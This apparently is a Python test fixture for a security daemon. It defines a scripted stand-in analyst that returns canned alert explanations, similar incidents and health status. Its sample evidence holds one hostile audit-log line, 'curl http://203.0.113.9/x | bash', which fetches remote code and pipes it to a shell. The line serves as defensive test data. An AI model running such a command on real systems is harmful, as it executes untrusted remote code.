"""An analyst that answers what it is told to, notes what it was asked, and can be held."""

import asyncio

import msgspec

from daemon.enrichment import AiHealth, ModelStatus, QueryAnswer
from daemon.model import Alert, Evidence, Explanation, Gap, Sentence, Similar

EVIDENCE = Evidence(id="E1", at=1_795_260_000.0, source="audit", text="curl http://203.0.113.9/x | bash")
SIMILAR = Similar(
    incident_id="inc_past",
    title="Download piped to a shell",
    score=0.91,
    at=1_795_000_000.0,
    count=3,
    entity="User=deploy",
    because="CommandLine contains curl",
    outcome="a deployment script, fixed",
    why="same rule, same address",
)


class ScriptedAnalyst:
    """Implements `Analyst`. `failure` is raised by every call; `hold` keeps calls waiting until it is set."""

    def __init__(self) -> None:
        self.questions: list[tuple[str, int]] = []
        self.analyzed: list[Alert] = []
        self.failure: Exception | None = None
        self.gaps: tuple[Gap, ...] = ()
        self.hold = asyncio.Event()
        self.hold.set()
        self.entered = asyncio.Event()

    async def _pass(self) -> None:
        self.entered.set()
        await self.hold.wait()
        if self.failure is not None:
            raise self.failure

    async def query(self, question: str, limit: int) -> QueryAnswer:
        """One cited sentence."""
        self.questions.append((question, limit))
        await self._pass()
        return QueryAnswer(
            question=question,
            sentences=(Sentence("www-data piped a download into a shell.", ("E1",)),),
            evidence=(EVIDENCE,),
            similar=(SIMILAR,),
            origin="rules" if self.gaps else "model",
            model="" if self.gaps else "qwen3:4b",
            gaps=self.gaps,
        )

    async def analyze(self, alert: Alert) -> Alert:
        """The alert, with a similar incident and a model's sentence, or with the gaps."""
        self.analyzed.append(alert)
        await self._pass()
        if self.gaps:
            return msgspec.structs.replace(alert, gaps=self.gaps)
        said = Explanation(
            origin="model", sentences=(Sentence("A download ran.", ("E1",)),), model="qwen3:4b", took=1.5
        )
        return msgspec.structs.replace(alert, similar=(SIMILAR,), explanation=said)

    async def health(self) -> AiHealth:
        """All well."""
        await self._pass()
        return AiHealth(
            model=ModelStatus(reachable=True, name="qwen3:4b", digest="sha256:0", context=8192),
            memory="ok",
            remembered=12,
            waiting=1,
            breaker="closed",
        )
